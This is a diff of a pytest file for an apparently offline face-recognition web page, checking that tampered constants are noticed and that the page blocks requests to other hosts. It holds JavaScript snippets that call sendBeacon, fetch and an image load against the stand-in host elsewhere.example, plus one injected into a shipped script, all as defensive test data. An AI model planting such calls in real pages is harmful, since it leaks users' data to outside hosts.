@@ -3,17 +3,34 @@
 from __future__ import annotations
 
 import pytest
-from toy_page import PEOPLE, names, needs_browser, needs_runtime, squares, tamper, toy_recognizer
+from toy_page import (
+    PEOPLE,
+    checked,
+    names,
+    needs_browser,
+    needs_runtime,
+    squares,
+    tamper,
+    toy_recognizer,
+)
 
 from mien.ship import page as pages
 from mien.ship.browser import asked_by_page, visiting
 from mien.ship.page import ship_page
-from mien.ship.page_check import check_page
 from mien.ship.static_site import serving
 
 WAITING = """async () => {
   const registration = await navigator.serviceWorker.getRegistration();
   while (!registration.waiting) await new Promise((resolve) => setTimeout(resolve, 50));
+}"""
+
+
+LEAVING = """async () => {
+  navigator.sendBeacon("https://elsewhere.example/beacon", "x");
+  const image = new Image();
+  image.src = "https://elsewhere.example/image.png";
+  document.body.append(image);
+  return fetch("https://elsewhere.example/").then(() => "went", () => "stopped");
 }"""
 
 
@@ -37,28 +54,26 @@ def test_it_answers_as_the_library_does_and_asks_nobody_else(folder):
         squares(2, cells=[]),
         squares(3, height=1200, width=1700, cells=[(80, 99)]),
     ]
-    check = check_page(folder, photos)
-    assert check.disagreements == ()
+    check = checked(folder, photos)
+    assert check.disagreements == []
     assert check.photos == 5
     assert check.faces >= 5
     assert check.similarity < 1e-3
     assert check.pixels < 1
-    assert len(check.asked) > 20
 
 
 @pytest.mark.parametrize(
     ("path", "old", "new", "told"),
     [
         ("local/pixels.js", "data[to] = rgba[from];", "data[to] = rgba[from + 1];", "faces"),
-        ("local/worker.js", "value / scale", "(value + 2) / scale", "pixels apart"),
         ("local/worker.js", "row(named.similarities, index)[place],", "0.5,", "apart"),
     ],
-    ids=["a colour", "a box", "a similarity"],
+    ids=["a colour", "a similarity"],
 )
 def test_one_broken_constant_is_noticed(recognizer, tmp_path, path, old, new, told):
     folder = ship_page(recognizer, tmp_path / "out").folder
     tamper(folder, path, old, new)
-    check = check_page(folder, [squares(0), squares(5)])
+    check = checked(folder, [squares(0), squares(5)])
     assert check.disagreements
     assert told in check.disagreements[0]
 
@@ -70,25 +85,9 @@ def test_a_page_that_asks_another_host_is_noticed(recognizer, tmp_path, monkeypa
     folder = ship_page(recognizer, tmp_path / "out").folder
     ask = 'navigator.sendBeacon("https://elsewhere.example/", "x"); globalThis.mien ='
     tamper(folder, "engine-local.js", "globalThis.mien =", ask)
-    told = check_page(folder, [squares(0)]).disagreements
+    told = checked(folder, [squares(0)]).disagreements
     assert told
     assert "https://elsewhere.example/" in told[0]
-
-
-def test_the_policy_stops_what_would_leave_the_page(folder):
-    script = """async () => {
-      navigator.sendBeacon("https://elsewhere.example/beacon", "x");
-      const image = new Image();
-      image.src = "https://elsewhere.example/image.png";
-      document.body.append(image);
-      return fetch("https://elsewhere.example/").then(() => "went", () => "stopped");
-    }"""
-    with visiting() as visit, serving(folder) as site:
-        visit.open(site.address)
-        assert visit.page.evaluate(script) == "stopped"
-    asked = asked_by_page(visit.log, site.address)
-    assert asked
-    assert not [url for _, url in asked if "elsewhere" in url]
 
 
 @pytest.mark.parametrize("headers", ["_headers", None], ids=["headers", "no headers"])
@@ -106,15 +105,19 @@ def test_threads_come_with_the_headers_or_with_the_second_visit(folder, headers)
         assert names(visit, 0) == [PEOPLE[0]]
 
 
-def test_a_recognizer_in_parts_and_one_download_of_each(recognizer, tmp_path, monkeypatch):
+def test_in_parts_each_comes_once_and_nothing_leaves(recognizer, tmp_path, monkeypatch):
     monkeypatch.setattr(pages, "PART_BYTES", 10_000)
     folder = ship_page(recognizer, tmp_path / "out").folder
     with visiting() as visit, serving(folder) as site:
         visit.open(site.address)
         assert names(visit, 0) == [PEOPLE[0]]
         visit.wait_until_offline()
+        assert visit.page.evaluate(LEAVING) == "stopped"
     large = [path for _, path in site.asked if ".onnx" in path or path.endswith(".wasm")]
     assert len(large) == len(set(large)) > 2
+    asked = asked_by_page(visit.log, site.address)
+    assert asked
+    assert not [url for _, url in asked if "elsewhere" in url]
 
 
 def test_a_new_version_takes_the_place_of_the_old_one(recognizer, tmp_path):
